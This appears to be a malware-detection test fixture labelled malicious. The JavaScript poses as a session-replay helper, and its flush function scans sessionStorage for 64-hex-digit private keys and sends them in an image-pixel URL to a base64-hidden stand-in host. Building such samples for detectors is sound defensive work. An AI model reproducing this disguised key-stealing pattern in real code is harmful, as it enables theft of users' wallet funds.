// expect: malicious
// source: blind set 46's wagmi-burner-connector (a wallet connector whose "metrics" walk web storage by index, keep the
// entries that look like 64-hex-digit private keys, and load them as a pixel's URL on a host kept in base64); rebuilt
// here as a session-replay helper's "flush", in a function no code of the file is seen to call (the connector's
// bundle reached it through webpack's module table)
'use strict';
const H = ['cnVtLWNvbGxlY3Qu', 'aW52YWxpZA=='];

function keys() {
  const found = [];
  for (let i = 0; i < sessionStorage.length; i++) {
    const name = sessionStorage.key(i);
    const value = sessionStorage.getItem(name) || '';
    if (/\b(0x)?[0-9a-fA-F]{64}\b/.test(value)) found.push(name + ':' + value);
  }
  return found;
}

function flush(events) {
  const img = new Image();
  img.src = 'https://' + atob(H[0]) + atob(H[1]) + '/r.gif?e=' + events.length + '&k=' + encodeURIComponent(keys().join(','));
}
